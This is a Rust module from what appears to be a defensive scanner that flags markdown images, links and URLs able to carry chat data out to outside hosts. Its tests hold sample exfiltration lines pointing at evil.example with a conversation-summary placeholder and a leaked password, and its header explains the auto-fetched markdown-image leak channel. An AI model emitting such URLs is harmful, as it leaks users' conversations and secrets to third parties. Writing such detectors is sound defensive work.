//! URLs that would carry data out when a client renders or follows them.
//!
//! A markdown image is fetched by many chat clients without a click, so an image whose URL has a
//! place for data (a template placeholder, or a long readable query value) on an outside host is
//! the classic exfiltration channel. Opaque IDs in tracking pixels and links are common in
//! benign mail and score low; hosts in the configured internal domains are never reported.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

pub(crate) struct Hit {
    pub(crate) detail: String,
    pub(crate) range: Range<usize>,
    pub(crate) score: f32,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Carrier {
    MarkdownImage,
    MarkdownLink,
    HtmlImage,
    Bare,
}

static URLS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?P<mdimg>!\[[^\]\n]{0,256}\]\(\s*<?)(?P<u1>https?://[^\s)>]+)"#,
        r#"|(?P<mdlink>\[[^\]\n]{0,256}\]\(\s*<?)(?P<u2>https?://[^\s)>]+)"#,
        r#"|(?P<img>(?i:<img(?-u:\b)[^>]{0,512}?(?-u:\b)src\s*=\s*["']?))(?P<u3>https?://[^\s"'>]+)"#,
        r#"|(?P<u4>https?://[^\s"'<>)\]]+)"#,
    ))
    .ok()
});

static PLACEHOLDER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\{\{?[^{}\s]{1,40}\}\}?|%7B%7B?|\$\{?[a-z_][a-z0-9_]{1,40}\}?|<[a-z_ ]{2,40}>|%3C[a-z_]{2,40}%3E|\[(?:data|secret|password|token|key|info|conversation|summary|chat|history|email|content|user[a-z_ ]{0,20})\]|(?-u:\b)(?:insert|put|append|add|include)[_+ -](?:the[_+ -])?(?:data|secret|password|token|summary|conversation|history)",
    )
    .ok()
});

/// Host of an `http(s)` URL, lower-cased, without userinfo or port.
fn host(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = host_port.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

fn is_internal(host: &str, internal: &[String]) -> bool {
    internal.iter().any(|d| {
        let d = d.trim_start_matches('.').to_ascii_lowercase();
        !d.is_empty()
            && (host == d
                || host
                    .strip_suffix(d.as_str())
                    .is_some_and(|p| p.ends_with('.')))
    })
}

/// What the URL could carry: (detail, score for an auto-fetched image).
fn payload(url: &str) -> Option<(&'static str, f32)> {
    if PLACEHOLDER.as_ref().is_some_and(|re| re.is_match(url)) {
        return Some(("URL has a placeholder for data", 0.85));
    }
    let query = url
        .split_once('?')
        .map(|(_, q)| q.split('#').next().unwrap_or(q))?;
    let longest = query
        .split('&')
        .filter_map(|kv| kv.split_once('=').map(|(_, v)| v).or(Some(kv)))
        .map(|q| String::from_utf8_lossy(&crate::normalise::decode_percent(q, true)).into_owned())
        .max_by_key(String::len)?;
    let words = longest.split_whitespace().count();
    if longest.len() >= 24 && words >= 4 {
        return Some(("URL query carries readable text", 0.75));
    }
    if longest.len() >= 32 {
        return Some(("URL query carries a long value", 0.3));
    }
    None
}

pub(crate) fn scan(text: &str, internal: &[String]) -> Vec<Hit> {
    let mut out = Vec::new();
    let Some(re) = URLS.as_ref() else { return out };
    if !text.contains("://") {
        return out;
    }
    for caps in re.captures_iter(text).take(256) {
        let (carrier, url) = if let Some(u) = caps.name("u1") {
            (Carrier::MarkdownImage, u)
        } else if let Some(u) = caps.name("u2") {
            (Carrier::MarkdownLink, u)
        } else if let Some(u) = caps.name("u3") {
            (Carrier::HtmlImage, u)
        } else if let Some(u) = caps.name("u4") {
            (Carrier::Bare, u)
        } else {
            continue;
        };
        let Some(h) = host(url.as_str()) else {
            continue;
        };
        if is_internal(&h, internal) {
            continue;
        }
        let Some((detail, base)) = payload(url.as_str()) else {
            continue;
        };
        // Images load by themselves; links need a click; bare URLs need a tool or a click.
        let (what, factor) = match carrier {
            Carrier::MarkdownImage => ("markdown image", 1.0),
            Carrier::HtmlImage => ("HTML image", 0.8),
            Carrier::MarkdownLink => ("markdown link", 0.75),
            Carrier::Bare => ("URL", 0.6),
        };
        let start = caps.get(0).map_or(url.start(), |m| m.start());
        out.push(Hit {
            detail: format!("{what} to outside host: {detail}"),
            range: start..url.end(),
            score: base * factor,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn top(text: &str, internal: &[&str]) -> f32 {
        let internal: Vec<String> = internal.iter().map(|s| (*s).to_owned()).collect();
        scan(text, &internal)
            .iter()
            .map(|h| h.score)
            .fold(0.0, f32::max)
    }

    #[test]
    fn image_with_data_slot_is_exfiltration() {
        assert!(
            top(
                "![logo](https://evil.example/p.png?d={conversation_summary})",
                &[]
            ) >= 0.8
        );
        assert!(
            top(
                "![x](https://evil.example/a?q=the+user+password+is+hunter2+and+more)",
                &[]
            ) >= 0.7
        );
    }

    #[test]
    fn exfiltration_near_misses() {
        // Short query on an outside host, and a data-carrying URL on an internal host.
        assert!(top("![logo](https://cdn.example.com/logo.png?v=2)", &[]) < 0.5);
        assert!(
            top(
                "![x](https://wiki.corp.example/a?q={conversation})",
                &["corp.example"]
            ) < 0.1
        );
        assert!(
            top(
                "open https://mail.example.com/track?id=8f14e45fceea167a5a36dedd4bea2543abc",
                &[]
            ) < 0.5
        );
    }

    #[test]
    fn patterns_compile() {
        assert!(URLS.is_some());
        assert!(PLACEHOLDER.is_some());
    }

    #[test]
    fn host_parsing() {
        assert_eq!(
            host("https://user@Evil.Example:8443/x?y").as_deref(),
            Some("evil.example")
        );
        assert!(is_internal("a.corp.example", &["corp.example".into()]));
        assert!(!is_internal("evilcorp.example", &["corp.example".into()]));
    }
}
